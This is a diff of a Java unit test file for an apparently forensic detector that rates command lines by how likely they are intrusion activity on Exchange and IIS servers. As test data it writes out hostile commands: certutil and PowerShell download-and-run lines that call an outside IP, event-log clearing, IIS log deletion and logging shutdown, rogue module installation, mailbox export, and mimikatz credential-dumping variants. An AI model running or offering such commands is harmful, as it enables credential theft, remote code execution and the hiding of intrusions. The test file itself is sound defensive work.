@@ -58,11 +58,28 @@ class AfterwardsTest {
             + "!mail or dumps packed!LOW",
         "7z a d:\\case.7z C:\\ProgramData\\Microsoft\\Windows\\WER\\ReportQueue\\a\\w3wp.dmp"
             + "!mail or dumps packed!LOW",
+        "net group \"Exchange Organization administrators\" administrator /del /domain"
+            + "!somebody taken out of an administrators' group!MEDIUM",
+        "appcmd.exe set config -section:system.webServer/httpLogging /dontLog:true"
+            + "!web server's logging switched off from a command line!MEDIUM",
+        "appcmd install module /name:x /image:c:\\windows\\temp\\x.dll"
+            + "!IIS module added from a command line!MEDIUM",
+        "powershell -c New-MailboxExportRequest -Mailbox a -FilePath"
+            + " \\\\localhost\\c$\\ProgramData\\a.zip!mailbox exported from a command line!MEDIUM",
+        "powershell -c New-MailboxExportRequest -Mailbox a -FilePath \\\\nas\\left\\a.pst"
+            + "!mailbox exported from a command line!LOW",
+        "certutil -urlcache -split -f http://203.0.113.9/a.exe c:\\programdata\\a.exe"
+            + "!something fetched from a command line!MEDIUM",
+        "powershell IEX(New-Object Net.WebClient).DownloadString('http://203.0.113.9/p')"
+            + "!something fetched from a command line!LOW",
+        "wevtutil cl Security!event log cleared from a command line!LOW",
+        "cmd /c del C:\\inetpub\\logs\\LogFiles\\W3SVC1\\u_ex210303.log"
+            + "!logs of the web server or of Exchange deleted!LOW",
         "nltest /domain_trusts!the domain explored!LOW",
         "net group \"Exchange Domain Servers\" /domain!the domain explored!LOW"
       })
   void whatACommandDoesIsToldWhateverItIsCalled(String command, String title, Confidence sure) {
-    assertThat(Commands.deeds(command))
+    assertThat(Commands.deeds(command, ""))
         .singleElement()
         .matches(deed -> deed.title().equals(title) && deed.confidence() == sure);
   }
@@ -81,11 +98,71 @@ class AfterwardsTest {
         "echo [S] starts",
         "powershell Get-MpPreference",
         "nltest /sc_query:example.test",
+        "certutil -urlcache crl delete",
+        "appcmd install module /name:a /image:%windir%\\System32\\inetsrv\\a.dll",
+        "wevtutil qe Security",
+        "del c:\\logs\\old.log",
         "dir d:\\ann.pst & 7z.exe a c:\\logs.7z c:\\logs",
         "7z.exe a c:\\logs.7z c:\\logs\nd:\\ann.pst"
       })
   void whatAdministratorsDoIsNoDeed(String command) {
-    assertThat(Commands.deeds(command)).isEmpty();
+    assertThat(Commands.deeds(command, "")).isEmpty();
+  }
+
+  /** It was HIGH: a search for a word is not its use. */
+  @ParameterizedTest
+  @ValueSource(
+      strings = {
+        "findstr /i mimikatz C:\\logs\\av.log",
+        "sc query mimikatz",
+        "cmd /c tasklist | findstr /i \"mimikatz nanodump\"",
+        "C:\\Windows\\System32\\cmd.exe /q /c \"tasklist | findstr lsass.dmp\"",
+        "tasklist /fi \"imagename eq mimikatz.exe\"",
+        "\"C:\\Windows\\system32\\find.exe\" \"lsass.dmp\" listing.txt",
+        "where /r C:\\ mimikatz.exe",
+        "cmd /c dir /s /b C:\\*mimikatz* > found.txt",
+        "powershell -NoProfile -c \"Get-ChildItem C:\\ -Recurse -Filter *mimikatz*\"",
+        "yara64.exe -r mimikatz.yar C:\\",
+        "findstr \"x & mimikatz\" a.log"
+      })
+  void aSearchForAToolIsNotItsUse(String command) {
+    assertThat(Commands.deeds(command, ""))
+        .singleElement()
+        .matches(deed -> deed.title().contains("looked for by name"))
+        .matches(deed -> deed.confidence() == Confidence.LOW);
+  }
+
+  /** Whoever puts a search beside what he runs, or calls it one, is not believed. */
+  @ParameterizedTest
+  @ValueSource(
+      strings = {
+        "findstr x y & mimikatz.exe",
+        "cmd /c \"findstr x y & mimikatz.exe\"",
+        "findstr mimikatz a.bat | cmd",
+        "cmd /c \"findstr mimikatz a.bat | powershell -\"",
+        "findstr ^\" & mimikatz.exe \"",
+        "findstr \"x & mimikatz.exe",
+        "C:\\temp\\findstr.exe sekurlsa::logonpasswords",
+        "findstr /v xyz \\\\a\\b\\mimikatz.txt > c:\\t\\a.exe",
+        "powershell -c \"gci $(Invoke-Mimikatz)\"",
+        "powershell -c \"gci c:\\ | % { Invoke-Mimikatz }\"",
+        "sc create mimikatz binpath= c:\\t\\a.exe",
+        "cmd /c cmd /c cmd /c cmd /c cmd /c mimikatz"
+      })
+  void whatIsRunBesideASearchIsUse(String command) {
+    assertThat(Commands.deeds(command, ""))
+        .singleElement()
+        .matches(deed -> deed.confidence() == Confidence.HIGH);
+  }
+
+  @Test
+  void aToolThatHasTheNameOfASearchIsKnownByItsPlace() {
+    String command = "findstr \"sekurlsa::logonpasswords\" exit";
+    assertThat(
+            Commands.deeds(command, "C:\\Windows\\System32\\findstr.exe").getFirst().confidence())
+        .isEqualTo(Confidence.LOW);
+    assertThat(Commands.deeds(command, "C:\\Users\\Public\\findstr.exe").getFirst().confidence())
+        .isEqualTo(Confidence.HIGH);
   }
 
   @ParameterizedTest
@@ -165,11 +242,13 @@ class AfterwardsTest {
     assertTimeoutPreemptively(
         Duration.ofSeconds(30),
         () -> {
-          assertThat(Commands.deeds("comsvcs procdump rundll32 ".repeat(100_000))).hasSize(1);
+          assertThat(Commands.deeds("comsvcs procdump rundll32 ".repeat(100_000), "")).hasSize(1);
           String packs = "x.pst" + "7z ".repeat(100_000);
           for (int i = 0; i < 1_000; i++) {
-            assertThat(Commands.deeds(packs)).isEmpty();
+            assertThat(Commands.deeds(packs, "")).isEmpty();
           }
+          String tangled = "cmd /c \"findstr mimikatz x | ";
+          assertThat(Commands.deeds(tangled.repeat(30_000), "")).hasSize(1);
           assertThat(Scripts.judge("'mimikatz ".repeat(100_000) + "\"$(<# @'".repeat(9_000), true))
               .isNotNull();
         });
